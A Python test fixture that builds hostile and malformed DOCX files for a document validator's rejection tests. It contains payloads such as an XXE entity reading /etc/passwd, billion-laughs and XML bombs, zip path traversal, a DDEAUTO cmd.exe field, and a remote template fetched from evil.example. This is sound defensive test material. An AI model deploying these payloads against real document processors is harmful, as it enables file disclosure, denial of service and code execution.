# ruff: noqa: E501 - a case to a line
"""DOCX that mean harm or hold what the tree does not: (name, bytes, the code and the place of its only fault).

Large ones are functions that make the bytes: every worker collects the cases, one of them needs the file.
"""

from __future__ import annotations

import io
import os
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import cache

from nastavnik.documents.tree import Cell, Document, Paragraph, Picture, Row, Run, Table
from nastavnik.documents.writers.docx import write_docx
from tests.documents.test_elements import png

Data = bytes | Callable[[], bytes]
Case = tuple[str, Data, str, str]
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


def content(data: Data) -> bytes:
    return data() if callable(data) else data


@cache
def good() -> bytes:
    table = Table((40, 60), tuple(Row((Cell((_words(f"а{n}"),)), Cell((_words(f"б{n}"),)))) for n in (1, 2)))
    return write_docx(Document("Приказ", (_words("первый"), _words("второй"), table), header=(_words("верх"),)))


def _words(text: str) -> Paragraph:
    return Paragraph((Run(text),))


def packed(parts: dict[str, bytes | None], data: bytes | None = None) -> bytes:
    """``data`` with ``parts`` put in or (None) taken out."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data or good())) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, content in parts.items():
            if content is not None:
                new.writestr(name, content)
    return out.getvalue()


def changed(old: str, new: str, part: str = "word/document.xml", data: bytes | None = None) -> bytes:
    text = zipfile.ZipFile(io.BytesIO(data or good())).read(part).decode()
    assert old in text, (part, old)
    return packed({part: text.replace(old, new, 1).encode()}, data)


def related(kind: str, target: str, *, outside: bool = True, part: str = "word/_rels/document.xml.rels") -> bytes:
    mode = ' TargetMode="External"' if outside else ""
    link = f'<Relationship Id="rIdX" Type="{_TYPES}/{kind}" Target="{target}"{mode}/></Relationships>'
    return changed("</Relationships>", link, part)


def run(inside: str) -> bytes:
    """``inside`` in a run of the second paragraph."""
    return changed(
        '<w:r><w:t xml:space="preserve">второй', f'<w:r>{inside}</w:r><w:r><w:t xml:space="preserve">второй'
    )


def around(before: str, after: str) -> bytes:
    words = '<w:r><w:t xml:space="preserve">второй</w:t></w:r>'
    return changed(words, f"{before}{words}{after}")


def in_cell(inside: str) -> bytes:
    """``inside`` at the head of the last cell."""
    words = '<w:p><w:r><w:t xml:space="preserve">б2'
    return changed(words, f"{inside}{words}")


def looked(look: str) -> bytes:
    return changed(
        '<w:r><w:t xml:space="preserve">второй', f'<w:r><w:rPr>{look}</w:rPr><w:t xml:space="preserve">второй'
    )


def placed(look: str) -> bytes:
    return changed(
        '<w:p><w:r><w:t xml:space="preserve">второй',
        f'<w:p><w:pPr>{look}</w:pPr><w:r><w:t xml:space="preserve">второй',
    )


def field(instruction: str) -> str:
    return (
        f'<w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{instruction}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>итог</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/>'
    )


def drawn(data: bytes = b"", old: str = "", new: str = "") -> bytes:
    made = write_docx(Document("П", (_words("первый"), Picture(png(), 20, "код"))))
    if old:
        return changed(old, new, data=made)
    return packed({"word/media/image1.png": data}, made)


def floating() -> bytes:
    made = write_docx(Document("П", (_words("первый"), Picture(png(), 20, "код"))))
    text = zipfile.ZipFile(io.BytesIO(made)).read("word/document.xml").replace(b"wp:inline", b"wp:anchor")
    return packed({"word/document.xml": text}, made)


SECOND, LAST_CELL, ALL = "paragraph 2", "table 1 row 2 cell 2", ""
TEXT_BOX = '<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox><w:txbxContent><w:p><w:r><w:t>надпись</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict>'
NEW_BOX = '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="wps"><w:drawing><w:txbxContent/></w:drawing></mc:Choice></mc:AlternateContent>'
SECTION = '<w:sectPr><w:pgSz w:w="16838" w:h="11906" w:orient="landscape"/><w:pgMar w:top="1134" w:right="567" w:bottom="1134" w:left="1701" w:header="567" w:footer="567" w:gutter="0"/></w:sectPr>'
BOMB = b'<?xml version="1.0"?><a>' + b" " * (30 * 1024 * 1024) + b"</a>"
DTD = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>'
LAUGHS = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'


def corpus() -> Iterator[Case]:
    yield from _packages()
    yield from _relations()
    yield from _constructs()
    yield from _looks()
    yield from _pages()


def _packages() -> Iterator[Case]:
    yield "nothing", b"", "empty", ALL
    yield "noise", os.urandom(3000), "wrong_type", ALL
    yield "pdf", b"%PDF-1.7\n%%EOF", "wrong_type", ALL
    yield "old document", OLE, "old_format", ALL
    yield "old document with macros", OLE + "_VBA_PROJECT".encode("utf-16-le"), "macros", ALL
    yield "encrypted", OLE + "EncryptedPackage".encode("utf-16-le"), "encrypted", ALL
    yield "half of a file", good()[: len(good()) // 2], "damaged", ALL
    yield "too large", lambda: b"PK" + b"\0" * (20 * 1024 * 1024), "too_large", ALL
    yield (
        "a sheet",
        packed({"xl/workbook.xml": b"<a/>", "word/document.xml": None, "[Content_Types].xml": b"<Types/>"}),
        "wrong_type",
        ALL,
    )
    yield "no content types", packed({"[Content_Types].xml": None}), "wrong_type", ALL
    yield "no document", packed({"word/document.xml": None}), "damaged", ALL
    yield "no relations", packed({"_rels/.rels": None}), "damaged", ALL
    yield "wrong content type", changed("document.main+xml", "styles+xml", "[Content_Types].xml"), "wrong_type", ALL
    yield (
        "document with macros",
        changed(
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
            "[Content_Types].xml",
        ),
        "macros",
        ALL,
    )
    yield "vba", packed({"word/vbaProject.bin": OLE}), "macros", ALL
    yield "activex", packed({"word/activeX/activeX1.xml": b"<a/>"}), "macros", ALL
    yield "path upwards", packed({"word/../../etc/x": b"x"}), "damaged", ALL
    yield "absolute path", packed({"/word/x.xml": b"<a/>"}), "damaged", ALL
    yield "a program inside", packed({"setup.exe": b"MZ"}), "damaged", ALL
    yield "backslashes", packed({"word/..\\..\\x.xml": b"<a/>"}), "strange_parts", ALL
    yield "twins", packed({"word/Document.xml": b"<a/>"}), "strange_parts", ALL
    yield (
        "nul in a name",
        packed({"word/document.xmlQbin": b"<a/>"}).replace(b"document.xmlQbin", b"document.xml\0bin"),
        "strange_parts",
        ALL,
    )
    yield "bomb beside the text", lambda: packed({"customXml/item1.xml": BOMB}), "bomb", ALL
    yield "bomb in the text", lambda: packed({"word/document.xml": BOMB}), "bomb", ALL
    yield "many parts", lambda: packed({f"word/media/{n}.png": b"" for n in range(2100)}), "bomb", ALL
    yield "entity from a file", packed({"word/document.xml": DTD}), "dtd", ALL
    yield "entity in properties", packed({"docProps/app.xml": DTD}), "dtd", ALL
    yield "laughs in styles", packed({"word/styles.xml": LAUGHS}), "dtd", ALL
    yield (
        "laughs behind a comment",
        packed({"word/numbering.xml": b"<!--" + b"x" * 5000 + b"-->" + LAUGHS}),
        "dtd",
        ALL,
    )
    yield "broken xml", packed({"word/document.xml": b"<w:document"}), "damaged", ALL
    yield "deep xml", packed({"word/document.xml": b"<a>" * 100_000}), "damaged", ALL
    yield "another root", packed({"word/document.xml": b"<html/>"}), "damaged", ALL
    yield (
        "strict",
        packed({"word/document.xml": b'<document xmlns="http://purl.oclc.org/ooxml/wordprocessingml/main"/>'}),
        "strict",
        ALL,
    )
    yield "too many paragraphs", lambda: changed("<w:body>", "<w:body>" + "<w:p/>" * 20_010), "too_long", ALL


def _relations() -> Iterator[Case]:
    yield (
        "template elsewhere",
        packed(
            {
                "word/_rels/settings.xml.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="{_TYPES}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'.encode()
            }
        ),
        "external",
        ALL,
    )
    yield "picture elsewhere", related("image", "http://evil.example/x.png"), "external", ALL
    yield "object elsewhere", related("oleObject", "http://evil.example/x"), "embedded", ALL
    yield "document elsewhere", related("subDocument", "file:///c:/x.docx"), "alt_chunk", ALL
    yield "frame elsewhere", related("frame", "http://evil.example/"), "alt_chunk", ALL
    yield "page inserted", related("aFChunk", "x.html", outside=False), "alt_chunk", ALL
    yield "sheet embedded", related("package", "embeddings/x.xlsx", outside=False), "embedded", ALL
    yield "fonts embedded", related("font", "fonts/x.odttf", outside=False, part="_rels/.rels"), "fonts", ALL
    yield "control", related("control", "activeX.xml", outside=False), "macros", ALL


def _constructs() -> Iterator[Case]:
    yield "inserted", around('<w:ins w:id="1" w:author="Иванова">', "</w:ins>"), "tracked", SECOND
    yield "deleted", run("<w:delText>нет</w:delText>"), "tracked", SECOND
    yield "moved", around('<w:moveTo w:id="1">', "</w:moveTo>"), "tracked", SECOND
    yield "row inserted", changed("<w:trPr>", '<w:trPr><w:ins w:id="3"/>'), "tracked", "table 1 row 1"
    yield "comment", run('<w:commentReference w:id="0"/>'), "comment", SECOND
    yield "footnote", run('<w:footnoteReference w:id="1"/>'), "footnote", SECOND
    yield (
        "endnote in a cell",
        in_cell('<w:p><w:r><w:endnoteReference w:id="1"/></w:r></w:p>'),
        "footnote",
        LAST_CELL + " paragraph 1",
    )
    yield "text box", run(TEXT_BOX), "text_box", SECOND
    yield "text box of today", run(NEW_BOX), "text_box", SECOND
    yield (
        "text box in the head",
        changed("верх</w:t></w:r>", f"верх</w:t></w:r><w:r>{TEXT_BOX}</w:r>", "word/header1.xml"),
        "text_box",
        "header paragraph 2",
    )
    yield "watermark", run("<w:pict/>"), "shape", SECOND
    yield "chart", run("<w:drawing><a/></w:drawing>"), "shape", SECOND
    yield "object", run("<w:object/>"), "embedded", SECOND
    yield (
        "formula",
        changed(
            "<w:sectPr>",
            '<m:oMathPara xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"/><w:sectPr>',
        ),
        "formula",
        ALL,
    )
    yield "ruby", run("<w:ruby/>"), "ruby", SECOND
    yield "part of the future", run('<x:new xmlns:x="urn:new"/>'), "foreign", SECOND
    yield "altchunk", changed("<w:sectPr>", "<w:altChunk/><w:sectPr>"), "alt_chunk", ALL
    for name, words in (
        ("dde", 'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'),
        ("include", 'INCLUDETEXT "c:/x"'),
        ("merge", "MERGEFIELD x"),
        ("contents", 'TOC \\o "1-3"'),
        ("link", 'HYPERLINK "http://evil.example"'),
        ("formula field", "= 2+2"),
        ("nothing in a field", ""),
    ):
        yield name, run(field(words)), "field", SECOND
    yield "simple field", around('<w:fldSimple w:instr="DATE">', "</w:fldSimple>"), "field", SECOND
    yield "number of the page in the text", run(field("PAGE")), "page_number_in_text", SECOND
    yield (
        "bound control",
        around('<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a"/></w:sdtPr><w:sdtContent>', "</w:sdtContent></w:sdt>"),
        "bound",
        SECOND,
    )
    yield "table in a cell", in_cell("<w:tbl><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>"), "nested_table", LAST_CELL
    yield "page break in a cell", in_cell('<w:p><w:r><w:br w:type="page"/></w:r></w:p>'), "break_in_cell", LAST_CELL
    yield "table among words", changed("<w:tblPr>", '<w:tblPr><w:tblpPr w:tblpX="1"/>'), "floating_table", "table 1"
    yield "columns without end", changed("<w:tcPr>", '<w:tcPr><w:gridSpan w:val="999999"/>'), "broad_table", "table 1"
    yield "column break", run('<w:br w:type="column"/>'), "columns", SECOND
    yield "jpeg as png", drawn(b"\xff\xd8\xff\xe0" + b"0" * 50), "picture", SECOND
    yield "png without a picture", drawn(png()[:-20]), "picture", SECOND
    yield "png of a million lines", drawn(_vast()), "picture", SECOND
    yield "lost picture", drawn(old='r:embed="rId8"', new='r:embed="rId99"'), "picture", SECOND
    yield "styles as a picture", drawn(old='r:embed="rId8"', new='r:embed="rId1"'), "picture", SECOND
    yield "floating picture", floating(), "floating", SECOND
    yield (
        "picture among words",
        drawn(old="<w:drawing>", new="<w:t>слова</w:t><w:drawing>"),
        "picture_in_text",
        SECOND,
    )


def _vast() -> bytes:
    head = png()
    at = head.index(b"IHDR") + 4
    body = head[at - 4 : at] + (60_000).to_bytes(4) * 2 + head[at + 8 : at + 13]
    return head[: at - 4] + body + zlib.crc32(body).to_bytes(4) + head[at + 17 :]


def _looks() -> Iterator[Case]:
    yield "hidden", looked("<w:vanish/>"), "hidden", SECOND
    yield "struck", looked("<w:strike/>"), "struck", SECOND
    yield "raised words", looked('<w:vertAlign w:val="superscript"/>'), "raised", SECOND
    yield "unknown symbol", run('<w:sym w:font="Webdings" w:char="F021"/>'), "symbol", SECOND
    yield "frame", placed('<w:framePr w:w="100"/>'), "frame", SECOND
    yield (
        "capitals over a tag",
        changed(
            '<w:r><w:t xml:space="preserve">второй',
            '<w:r><w:rPr><w:caps/></w:rPr><w:t xml:space="preserve">{{ name }}',
        ),
        "capitals",
        SECOND,
    )


def _pages() -> Iterator[Case]:
    yield "two sections", placed(SECTION), "sections", ALL
    yield "letter", changed('<w:pgSz w:w="11906" w:h="16838"', '<w:pgSz w:w="12240" w:h="15840"'), "page_size", ALL
    yield "two columns", changed("<w:titlePg/>", '<w:cols w:num="2"/><w:titlePg/>'), "columns", ALL
    yield "another first page", changed("верх", "иное", "word/header2.xml"), "first_page_head", "header"
    yield (
        "even pages",
        changed("<w:zoom", "<w:evenAndOddHeaders/><w:zoom", "word/settings.xml"),
        "even_page_head",
        "header",
    )
    yield (
        "table in the head",
        changed("<w:p><w:r>", "<w:tbl/><w:p><w:r>", "word/header1.xml"),
        "table_in_running",
        "header",
    )
    yield (
        "words beside the number",
        changed(
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
            '<w:r><w:t>Приказ, с. </w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>',
            "word/header1.xml",
        ),
        "words_beside_number",
        "header",
    )
